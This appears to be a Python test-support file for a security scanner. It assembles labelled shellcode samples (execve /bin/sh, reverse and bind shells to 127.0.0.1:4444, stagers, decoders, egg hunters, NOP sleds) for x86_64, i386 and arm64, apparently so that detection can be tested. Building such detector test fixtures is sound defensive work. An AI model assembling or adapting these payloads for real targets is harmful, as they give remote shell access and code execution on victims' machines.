# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Machine code for tests, made from the sources below by the assembler. It is searched, and never run."""

from __future__ import annotations

import functools
import pathlib
import subprocess
import tempfile

from tests.support import require

_ASSEMBLERS = {"x86_64": ["as", "--64"], "i386": ["as", "--32"], "arm64": ["aarch64-linux-gnu-as"]}
_COPIERS = {"arm64": "aarch64-linux-gnu-objcopy"}
_PROLOGUES = {"x86_64": ".intel_syntax noprefix\n", "i386": ".intel_syntax noprefix\n", "arm64": ""}


@functools.cache
def assembled(source: str, machine: str = "x86_64") -> bytes:
    """Return the machine code of a source; one statement a line or between semicolons (line breaks for arm64)."""
    command, copier = _ASSEMBLERS[machine], _COPIERS.get(machine, "objcopy")
    require(f"command:{command[0]}", f"command:{copier}")
    with tempfile.TemporaryDirectory() as directory:
        built, raw = pathlib.Path(directory, "built.o"), pathlib.Path(directory, "raw")
        text = f"{_PROLOGUES[machine]}{source}\n"
        subprocess.run([*command, "-o", str(built), "-"], input=text, text=True, check=True, capture_output=True)
        subprocess.run([copier, "-O", "binary", "-j", ".text", str(built), str(raw)], check=True)
        return raw.read_bytes()


# What each is told to be, with several ways to write the same.
X86_64 = {
    "execve, short": (
        "execute",
        """xor esi, esi; push rsi; movabs rdi, 0x68732f2f6e69622f; push rdi; push rsp; pop rdi; push 59; pop rax; cdq
        syscall""",
    ),
    "execve, number from a byte": (
        "execute",
        """xor rax, rax; mov rbx, 0x68732f6e69622f2f; push rax; push rbx; mov rdi, rsp; push rax; push rdi
        mov rsi, rsp; xor edx, edx; mov al, 59; syscall""",
    ),
    "execve, everything negated, counted and shifted": (
        "execute",
        """mov rbx, 0xff978cd091969dd1; neg rbx; push rbx; mov rdi, rsp; xor ecx, ecx; mul rcx; mov rsi, rdx
        mov eax, 0x76; shr eax, 1; syscall""",
    ),
    "execve, number from another register": (
        "execute",
        """push 60; pop r9; dec r9; xor esi, esi; xor edx, edx; lea rdi, [rip + name]; nop; xchg rax, r9; jmp 1f
        .byte 0xe8; 1: syscall; name: .asciz "/bin/sh" """,
    ),
    "execve, by way of a 32-bit call": (
        "execute",
        """xor eax, eax; push rax; push 0x68732f2f; push 0x6e69622f; mov ebx, esp; push rax; push rbx; mov ecx, esp
        xor edx, edx; mov al, 11; int 0x80""",
    ),
    "reverse shell": (
        "reverse_shell",
        """push 41; pop rax; push 2; pop rdi; push 1; pop rsi; cdq; syscall; xchg rdi, rax
        mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall
        push 3; pop rsi; 1: dec rsi; push 33; pop rax; syscall; jnz 1b
        push 59; pop rax; cdq; movabs rbx, 0x68732f6e69622f; push rbx; mov rdi, rsp; push rdx; push rdi; mov rsi, rsp
        syscall""",
    ),
    "reverse shell as compiled": (
        "reverse_shell",
        """mov edi, 2; mov esi, 1; xor edx, edx; mov eax, 41; syscall; mov ebx, eax; lea rsi, [rsp + 16]
        mov edx, 16; movsxd rdi, ebx; mov eax, 42; syscall; test eax, eax; jne 9f; xor r12d, r12d
        2: mov rsi, r12; mov edi, ebx; mov eax, 33; syscall; inc r12d; cmp r12d, 3; jne 2b
        lea rdi, [rip + 8f]; xor edx, edx; lea rsi, [rsp + 32]; mov eax, 59; syscall
        9: mov eax, 60; xor edi, edi; syscall; 8: .asciz "/bin/sh" """,
    ),
    "bind shell": (
        "bind_shell",
        """xor eax, eax; mov al, 41; xor edi, edi; mov dil, 2; xor esi, esi; mov sil, 1; xor edx, edx; syscall
        mov edi, eax; push rdx; mov dword ptr [rsp], 0x5c110002; mov rsi, rsp; mov dl, 16
        xor eax, eax; mov al, 49; syscall; xor esi, esi; xor eax, eax; mov al, 50; syscall
        xor edx, edx; mov al, 43; syscall; mov edi, eax; xor esi, esi; 1: push 33; pop rax; syscall; inc esi
        cmp esi, 3; jl 1b; push 59; pop rax; syscall""",
    ),
    "stager": (
        "stager",
        """push 9; pop rax; xor edi, edi; push 0x1000; pop rsi; push 7; pop rdx; push 0x22; pop r10; xor r9, r9; syscall
        push rax; push 41; pop rax; cdq; push 2; pop rdi; push 1; pop rsi; syscall; xchg rdi, rax
        movabs rcx, 0x100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall
        pop rcx; pop rsi; xor eax, eax; mov edx, 0x1000; syscall; jmp rsi""",
    ),
    "loader": (
        "loader",
        """push 0x41; mov rdi, rsp; xor esi, esi; mov eax, 319; syscall; mov rdi, rax; mov eax, 322; xor edx, edx
        xor r10d, r10d; mov r8d, 0x1000; syscall""",
    ),
    "injector": ("injector", "mov edi, 16; mov esi, ebx; xor edx, edx; mov eax, 101; syscall; ret"),
    "more rights": ("execute", "xor edi, edi; push 105; pop rax; syscall; push 59; pop rax; xor esi, esi; syscall"),
    "a function for any call": (
        "system_calls",
        """mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; mov r10, r8; mov r8, r9; mov r9, [rsp + 8]
        syscall; ret""",
    ),
    "memory made executable": (
        "system_calls",
        "mov edx, 7; mov esi, 4096; mov rdi, rbx; mov eax, 10; syscall; jmp rbx",
    ),
    "decoder, xor with a byte": (
        "decoder",
        """jmp 2f; 1: pop rsi; xor ecx, ecx; mov cl, 60; 3: xor byte ptr [rsi], 0x5a; inc rsi; loop 3b; jmp 4f
        2: call 1b; 4: .fill 60, 1, 0x33""",
    ),
    "decoder, xor with eight bytes that change": (
        "decoder",
        """xor rcx, rcx; sub rcx, -14; lea rax, [rip - 17]; movabs rbx, 0x1122334455667788
        1: xor qword ptr [rax + 39], rbx; sub rax, -8; loop 1b; .fill 64, 1, 0x44""",
    ),
    "decoder, additive feedback": (
        "decoder",
        """fldz; fnstenv [rsp - 12]; pop rdi; mov eax, 0x12345678; push 20; pop rcx; 1: xor dword ptr [rdi + 24], eax
        add eax, dword ptr [rdi + 24]; add rdi, 4; dec ecx; jnz 1b; .fill 64, 1, 0x44""",
    ),
    "decoder, sub, by way of registers": (
        "decoder",
        """call 1f; 1: pop rbp; lea rsi, [rbp + 40]; mov rdi, rsi; push 80; pop rcx; 2: lodsb; sub al, 13; rol al, 3
        stosb; dec rcx; jne 2b; .fill 64, 1, 0x44""",
    ),
    "decoder, call into itself": (
        "decoder",
        """.byte 0xe8, 0xff, 0xff, 0xff, 0xff, 0xc0; pop rcx; push 33; pop rbx; 1: not byte ptr [rcx + rbx + 20]
        sub ebx, 1; jnz 1b; .fill 64, 1, 0x44""",
    ),
    "egg hunter with access": (
        "egg_hunter",
        """xor edx, edx; 1: or dx, 0xfff; 2: inc rdx; push 21; pop rax; lea rdi, [rdx + 4]; xor esi, esi; syscall
        cmp al, 0xf2; jz 1b; mov eax, 0x50905090; mov rdi, rdx; scasd; jnz 2b; scasd; jnz 2b; jmp rdi""",
    ),
    "egg hunter without calls": (
        "egg_hunter",
        """1: inc rdi; cmp dword ptr [rdi], 0x77303074; jne 1b; cmp dword ptr [rdi + 4], 0x77303074; jne 1b; jmp rdi""",
    ),
    "search for an ELF image": ("elf_finder", "1: sub rax, 4096; cmp dword ptr [rax], 0x464c457f; jne 1b; call rax"),
    "place found by a call": ("position", "call 1f; 1: pop rbx; and rbx, -4096; call [rbx + 8]"),
    "sled": (
        "sled",
        ".fill 400, 1, 0x90; mov rdi, rsp; mov rax, [rdi + 8]; sub rax, 0x11; mov rbx, [rip + 9]; jmp rax",
    ),
}

I386 = {
    "execve": (
        "execute",
        """xor eax, eax; push eax; push 0x68732f2f; push 0x6e69622f; mov ebx, esp; push eax; push ebx; mov ecx, esp
        mov al, 11; int 0x80""",
    ),
    "reverse shell by socketcall": (
        "reverse_shell",
        """xor ebx, ebx; mul ebx; push ebx; inc ebx; push ebx; push 2; mov ecx, esp; mov al, 102; int 0x80
        xchg eax, ebx; pop ecx; 1: mov al, 63; int 0x80; dec ecx; jns 1b; push 0x0100007f; push 0x5c110002
        mov ecx, esp; push 102; pop eax; push eax; push ecx; push ebx; mov bl, 3; mov ecx, esp; int 0x80
        push 0; push 0x68732f2f; push 0x6e69622f; mov ebx, esp; xor ecx, ecx; push 11; pop eax; int 0x80""",
    ),
    "decoder": (
        "decoder",
        """fcmovbe st, st(1); mov ebx, 0x11223344; fnstenv [esp - 12]; pop edx; xor ecx, ecx; mov cl, 31
        1: xor dword ptr [edx + 23], ebx; add ebx, dword ptr [edx + 23]; sub edx, -4; loop 1b; .fill 90, 1, 0x44""",
    ),
    "egg hunter": (
        "egg_hunter",
        """1: or cx, 0xfff; 2: inc ecx; push 67; pop eax; int 0x80; cmp al, 0xf2; jz 1b; mov eax, 0x50905090
        mov edi, ecx; scasd; jnz 2b; scasd; jnz 2b; jmp edi""",
    ),
}

ARM64 = {
    "execve": (
        "execute",
        """mov x1, #0x622f
        movk x1, #0x6e69, lsl #16
        movk x1, #0x732f, lsl #32
        movk x1, #0x68, lsl #48
        str x1, [sp, #-16]!
        mov x0, sp
        mov x1, xzr
        mov x2, xzr
        mov x8, #221
        svc #0""",
    ),
    "reverse shell": (
        "reverse_shell",
        """mov x0, #2
        mov x1, #1
        mov x2, #0
        mov x8, #198
        svc #0x1337
        mov x19, x0
        adr x1, 9f
        mov w2, #16
        mov w8, #203
        svc #0
        mov x1, #2
        1: mov x0, x19
        mov x2, xzr
        mov x8, #20
        add x8, x8, #4
        svc #0
        subs x1, x1, #1
        b.pl 1b
        adr x0, 8f
        mov x1, #0
        mov x2, #0
        movz w8, #221
        svc #0
        8: .asciz "/bin/sh"
        9: .word 0x5c110002, 0x0100007f""",
    ),
    "bind shell": (
        "bind_shell",
        """mov x8, #198
        lsr x1, x8, #7
        lsl x0, x1, #1
        mov x2, xzr
        svc #0
        mov x3, x0
        mov x2, #16
        mov x8, #200
        svc #0
        mov x0, x3
        mov x1, #2
        mov x8, #201
        svc #0
        mov x8, #202
        svc #0
        mov x8, #24
        svc #0
        mov x8, #221
        svc #0""",
    ),
    "stager": (
        "stager",
        """mov x0, xzr
        mov x1, #4096
        mov x2, #7
        mov x3, #34
        mvn x4, x0
        mov x8, #222
        svc #0
        mov x1, x0
        mov x0, #0
        mov x2, #4096
        mov x8, #63
        svc #0
        br x1""",
    ),
    "decoder": (
        "decoder",
        """adr x0, 9f
        mov x1, #64
        mov w3, #0x5a
        1: ldrb w2, [x0]
        eor w2, w2, w3
        strb w2, [x0], #1
        subs x1, x1, #1
        b.ne 1b
        9: .fill 64, 1, 0x44""",
    ),
    "egg hunter": (
        "egg_hunter",
        """1: add x0, x0, #1
        mov x1, xzr
        mov x8, #48
        svc #0
        cmn x0, #14
        b.eq 1b
        ldr w3, [x0]
        cmp w3, w4
        b.ne 1b
        br x0""",
    ),
    "search for an ELF image": (
        "elf_finder",
        """mov w1, #0x457f
        movk w1, #0x464c, lsl #16
        1: sub x0, x0, #1, lsl #12
        ldr w2, [x0]
        cmp w1, w2
        b.ne 1b""",
    ),
    "sled": ("sled", ".rept 128\nnop\n.endr\nldr x0, [x1, #8]\nadd x0, x0, #9\neor x3, x4, x5\nbr x0"),
}
